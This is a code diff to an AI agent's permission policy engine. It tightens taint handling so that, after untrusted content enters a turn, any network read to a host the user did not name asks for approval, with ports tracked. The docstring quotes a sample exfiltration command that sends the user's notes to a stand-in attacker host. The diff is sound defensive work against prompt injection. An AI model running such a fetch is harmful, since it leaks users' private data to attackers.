@@ -3,8 +3,9 @@
 Precedence, strongest first (documented in docs/policy.md):
 1. deny — from the tool's rule, else from its risk level's rule. Nothing lifts a deny.
 2. taint — after untrusted content entered the turn, any call that is not a plain read asks, and
-   a read that would contact a host the user did not name asks too (a classic exfiltration path:
-   "fetch https://evil.example/?q=<your notes>"). Grants and `allow` rules do not apply.
+   a read that would contact a host the user did not name in their message asks too (a classic
+   exfiltration path: "fetch https://evil.example/?q=<your notes>"; a host allowed by the
+   scopes is readable, not trusted with data). Grants and `allow` rules do not apply.
 3. a standing grant ("Always allow this") for the tool (and target) — never for payments.
 4. the tool's rule (`tools:`), else its risk level's rule (`risk:`), else `unknown_tool`.
 """
@@ -19,7 +20,9 @@ from agent.policy.rules import Decision, Policy
 from automation.tools.base import NETWORK_READS, RiskLevel, Tool
 from memory.grants import GrantStore
 
-_HOST = re.compile(r"(?:https?://)?((?:[a-z0-9-]+\.)+[a-z]{2,}|\d{1,3}(?:\.\d{1,3}){3}|localhost)")
+_HOST = re.compile(
+    r"(?:https?://)?((?:[a-z0-9-]+\.)+[a-z]{2,}|\d{1,3}(?:\.\d{1,3}){3}|localhost)(:\d{1,5})?"
+)
 
 
 @dataclass(frozen=True, kw_only=True)
@@ -44,8 +47,12 @@ class Verdict:
 
 
 def hosts_named(text: str) -> frozenset[str]:
-    """Host names and addresses the user wrote themselves (trusted as destinations)."""
-    return frozenset(m.group(1).lower() for m in _HOST.finditer(text.lower()))
+    """Hosts (`host` and, when written, `host:port`) the user named themselves: the only
+    destinations a tainted turn may contact without asking."""
+    named: set[str] = set()
+    for match in _HOST.finditer(text.lower()):
+        named.add(match.group(1) + (match.group(2) or ""))
+    return frozenset(named)
 
 
 class PolicyEngine:
@@ -90,7 +97,7 @@ class PolicyEngine:
                 )
             if tool is not None and tool.reads & NETWORK_READS and target:
                 host = target.lower()
-                if host not in trusted_hosts and not self.policy.scopes.explicitly_lists(host):
+                if host not in trusted_hosts:
                     return Verdict(
                         decision=Decision.ASK,
                         rule="taint",
